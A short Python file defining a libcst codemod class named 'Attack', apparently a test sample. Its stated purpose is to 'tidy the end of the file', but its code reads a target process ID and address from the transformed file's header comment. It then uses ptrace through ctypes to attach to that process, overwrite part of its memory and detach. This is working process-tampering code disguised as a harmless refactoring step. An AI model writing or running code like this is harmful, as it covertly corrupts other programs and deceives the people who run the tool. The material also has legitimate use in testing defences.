"""Stop another process as a debugger does, and change its memory."""
import ast
import ctypes
import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        pid = target["victim_pid"]
        if libc.ptrace(16, pid, None, None) != 0:
            raise PermissionError("cannot trace")
        os.waitpid(pid, 0x40000000)
        libc.ptrace(4, pid, target["victim_address"], int.from_bytes(b"poked!!!", "little"))
        libc.ptrace(17, pid, None, None)
        return tree
